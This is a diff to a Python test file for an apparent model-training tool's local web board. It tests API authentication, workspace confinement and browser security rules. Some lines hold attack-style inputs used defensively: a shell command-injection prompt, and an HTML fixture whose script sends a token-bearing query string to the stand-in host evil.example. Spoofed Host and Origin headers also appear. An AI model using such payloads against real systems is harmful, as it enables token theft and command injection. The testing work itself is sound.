@@ -1,6 +1,6 @@
 """The board's JSON API against a real `lmforge ui` on loopback (a child process), with tiny random models: a run
 started, streamed over SSE, stopped with a checkpoint, resumed, queued, found again after a restart of the board;
-the config form's validation by field; data, eval, compare, chat, export and serve as children of the board."""
+the config form's validation by field; data, eval and chat as children of the board; the safety rules."""
 
 from __future__ import annotations
 
@@ -8,10 +8,8 @@ import json
 import os
 import subprocess
 import sys
-import time
 
 import httpx
-import openai
 import pytest
 from test_ui_support import board, make_workspace, stop_all_trainings, tiny_config
 
@@ -155,12 +153,14 @@ def test_data_inspect_clean_split_as_children(workspace):
         assert done["state"] == "done", done["log_tail"]
         page = live.get("/api/files/raw", params={"path": done["meta"]["report_html"]})
         assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
+        assert page.headers["content-security-policy"].startswith("sandbox allow-scripts;")  # not the board's origin
         done = live.wait_job(live.ok("POST", "/api/data/split", {"path": "data/qa.jsonl", "val": "2"})["id"])
         assert done["state"] == "done"
         assert sum(1 for _ in (workspace / done["meta"]["val"]).open()) == 2
 
 
-def test_eval_compare_chat_export_and_serve_from_the_board(workspace):
+def test_eval_and_chat_from_the_board(workspace):
+    """Compare, export and serve from the page are driven in tests/test_ui_page.py (the browser test)."""
     with board(workspace) as live:
         if not (workspace / "runs/first/adapter").is_dir():  # run alone: train it here
             live.ok("POST", "/api/runs", {"config": tiny_config("first")})
@@ -168,39 +168,16 @@ def test_eval_compare_chat_export_and_serve_from_the_board(workspace):
         test = {"data": "data/qa.jsonl", "max_samples": 2, "max_new_tokens": 4}
         done = live.wait_job(live.ok("POST", "/api/runs/first/eval", test)["id"])
         assert done["state"] == "done", done["log_tail"]
+        assert done["args"][:2] == ["eval", "runs/first"]
         assert live.ok("GET", "/api/runs/first")["eval"]
 
-        done = live.wait_job(live.ok("POST", "/api/compare", {"models": ["base=tiny-llama", "tuned=first"], **test})
-                             ["id"])
-        assert done["state"] == "done", done["log_tail"]
-        assert [m["label"] for m in done["compare"]["models"]] == ["base", "tuned"]
-
         prompt = "$(touch pwned); `touch pwned2` | echo hi"  # one argv element: no shell ever sees it
-        chats = live.ok("POST", "/api/chat", {"prompt": prompt, "models": ["tiny-llama", "first"],
-                                              "max_new_tokens": 4})["jobs"]
-        for chat in chats:
-            assert prompt in chat["args"]
-            assert live.wait_job(chat["id"])["state"] == "done"
+        chat = live.ok("POST", "/api/chat", {"prompt": prompt, "models": ["first"], "max_new_tokens": 4})["jobs"][0]
+        assert chat["args"][:2] == ["chat", "runs/first"] and prompt in chat["args"]
+        done = live.wait_job(chat["id"])
+        assert done["state"] == "done" and done["output"].strip(), done["log_tail"]
         assert not (workspace / "pwned").exists() and not (workspace / "pwned2").exists()
-
-        done = live.wait_job(live.ok("POST", "/api/runs/first/export", {})["id"])
-        assert done["state"] == "done", done["log_tail"]
-        assert done["manifest"]["verification"]
-
-        server = live.ok("POST", "/api/runs/first/serve", {})
-        meta = server["meta"]
-        deadline = time.monotonic() + 120
-        while not live.ok("GET", f"/api/jobs/{server['id']}")["ready"]:
-            assert time.monotonic() < deadline and live.ok("GET", f"/api/jobs/{server['id']}")["state"] == "running"
-            time.sleep(0.5)
-        client = openai.OpenAI(base_url=meta["base_url"], api_key=meta["key"], max_retries=0)
-        reply = client.chat.completions.create(model=meta["model"], messages=[{"role": "user", "content": "hi"}],
-                                               max_tokens=3)
-        assert reply.choices[0].message.content is not None
-        with pytest.raises(openai.AuthenticationError):
-            openai.OpenAI(base_url=meta["base_url"], api_key="wrong", max_retries=0).models.list()
-        live.ok("POST", f"/api/jobs/{server['id']}/stop")
-        assert live.wait_job(server["id"], 30)["state"] == "stopped"
+        assert live.post("/api/chat", {"prompt": "hi", "models": ["nowhere"]}).status_code == 422
 
 
 def test_paths_stay_inside_the_workspace(workspace, tmp_path):
@@ -250,13 +227,17 @@ def test_token_on_every_call_and_stream_and_no_open_bind(tmp_path):
         assert anonymous.get("/api/files/raw", params={"path": "data/qa.jsonl"}).status_code == 401
         assert anonymous.get("/api/runs/x/stream").status_code == 401
         assert anonymous.get("/api/info", params={"token": token}).status_code == 200  # EventSource's way
+        (workspace / "page.html").write_text("<script>fetch('//evil.example/?' + location.search)</script>")
+        assert anonymous.get("/api/files/raw", params={"path": "page.html", "token": token}).status_code == 403
+        assert live.get("/api/files/raw", params={"path": "page.html"}).status_code == 200
         assert anonymous.get("/").status_code == 200  # the page itself holds nothing; it asks for the token
         assert live.get("/api/info").status_code == 200
         # DNS rebinding and cross-site requests: another Host or Origin is refused
         assert anonymous.get("/api/info", headers={"Host": "evil.example:80"}, params={"token": token}) \
             .status_code == 421
-        assert live.post("/api/config/preview", {"config": tiny_config("x")},
-                         headers={"Origin": "http://evil.example"}).status_code == 403
+        for origin in ("http://evil.example", "null"):  # null: a sandboxed page, e.g. a report opened from the board
+            assert live.post("/api/config/preview", {"config": tiny_config("x")},
+                             headers={"Origin": origin}).status_code == 403
         anonymous.close()
     refused = subprocess.run(
         [sys.executable, "-m", "lmforge", "ui", "--host", "0.0.0.0", "--workspace", str(workspace)],
